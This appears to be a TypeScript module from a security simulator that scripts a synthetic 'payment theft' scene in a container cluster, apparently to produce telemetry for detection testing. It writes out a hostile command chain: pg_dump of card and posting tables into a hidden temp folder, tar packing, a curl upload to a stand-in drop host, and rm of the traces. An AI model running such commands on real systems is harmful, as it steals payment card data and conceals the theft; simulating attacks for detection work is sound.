import { containersOf } from '../cluster/cluster.ts';
import { run } from '../activity/activity.ts';
import { readFile } from '../activity/file.ts';
import { connect } from '../activity/network.ts';
import type { Scene } from '../scene.ts';

/** Payment data is dumped, packed, sent out with curl, and the traces are removed. */
export function paymentTheft(scene: Scene): void {
  const database = scene.random.pick(containersOf(scene.cluster, 'payment-db'));
  const shell = scene.enter(database, { binary: '/bin/bash' });
  scene.wait(3_000, 6_000);
  const dump = scene.exec(shell, {
    binary: '/usr/lib/postgresql/17/bin/pg_dump',
    arguments: '-h 127.0.0.1 -U ledger -t cards -t postings -f /tmp/.c/ledger.sql ledger',
  });
  scene.wait(3, 9);
  connect(scene, dump, { address: '127.0.0.1', port: 5432 });
  scene.wait(2_500, 5_000);
  scene.exit(dump);
  scene.wait(2_000, 4_000);
  const pack = scene.exec(shell, { binary: '/usr/bin/tar', arguments: 'czf /tmp/.c/l.tgz /tmp/.c/ledger.sql' });
  scene.wait(2, 8);
  readFile(scene, pack, '/tmp/.c/ledger.sql');
  scene.wait(700, 1_500);
  scene.exit(pack);
  scene.wait(2_000, 5_000);
  send(scene, shell);
  scene.wait(1_500, 4_000);
  run(scene, shell, { binary: '/bin/rm', arguments: '-rf /tmp/.c' });
  scene.wait(800, 2_000);
  scene.exit(shell);
}

function send(scene: Scene, shell: Parameters<Scene['exec']>[0]): void {
  const curl = scene.exec(shell, {
    binary: '/usr/bin/curl',
    arguments: '-sk -T /tmp/.c/l.tgz https://drop.paste-box.example/u/8f31',
  });
  scene.wait(10, 60);
  connect(scene, curl, { address: '203.0.113.140', port: 443 }, 'egress');
  scene.wait(1_500, 4_000);
  scene.exit(curl);
}
